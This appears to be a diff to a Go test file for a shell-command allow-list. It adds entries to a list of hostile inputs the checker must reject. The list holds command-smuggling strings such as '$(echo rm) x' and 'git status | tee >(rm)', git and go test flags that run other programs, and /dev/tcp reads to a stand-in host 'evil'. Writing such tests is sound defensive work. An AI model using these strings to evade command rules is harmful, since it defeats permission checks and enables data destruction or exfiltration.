@@ -81,7 +81,7 @@ var hostile = []string{
 	"$X", "$X status", "${X} status", "git$X status", "$(echo rm) x", "`echo rm` x", "r? x", "/bin/r* x", "{rm,-rf,x}", "{git,status}", "~/bin/git status", "$'rm' x", "$\"git\" status", "g${x}it status", "[gr]it status", "\"$@\"",
 	// words that look like the rule's
 	"gitx status", "git statusx", "git status-x", "git -c core.pager=rm status", "git -C / status", "git --exec-path=/tmp status", "git $X status", "git {status,push}", "git stat*", "git 'status; rm'", "'git status'", "git \"status \"", "Git status",
-	"/tmp/git status", "./git status", "../git status", "git", "ls; git push", "git log --output=x", "git log --outpu=x", "git log --ext-diff", "go test -exec rm", "go test --toolexec=rm ./...", "bash check.sh x", "sort -o x", "./build.sh x", "go vet ./... x", "true x",
+	"/tmp/git status", "./git status", "../git status", "git", "ls; git push", "git log --output=x", "git log --outpu=x", "git log --ext-diff", "git -c core.pager=x log", "git -C /tmp log", "git --exec-path=x log", "git log --no-index", "go test -ldflags=-extld=x", "go test --coverprofile=x", "go test -test.trace=x", "go test -exec rm", "go test --toolexec=rm ./...", "bash check.sh x", "sort -o x", "./build.sh x", "go vet ./... x", "true x",
 	// what else a shell does
 	"git status > x", "git status >> x", "git status >| x", "git status &> x", "git status &>> x", "git status >& x", "git status 2> x", "> x", "git status <> x", "git status > $X", "git status > /dev/nullx", "git status > /dev/../tmp/x",
 	"cat < /dev/tcp/evil/80", "cat < //dev/tcp/evil/80", "cat < /dev/./udp/evil/80", "cat < $X", "git status {x}> /dev/null", "git status &", "coproc git status", "git status | tee >(rm)",
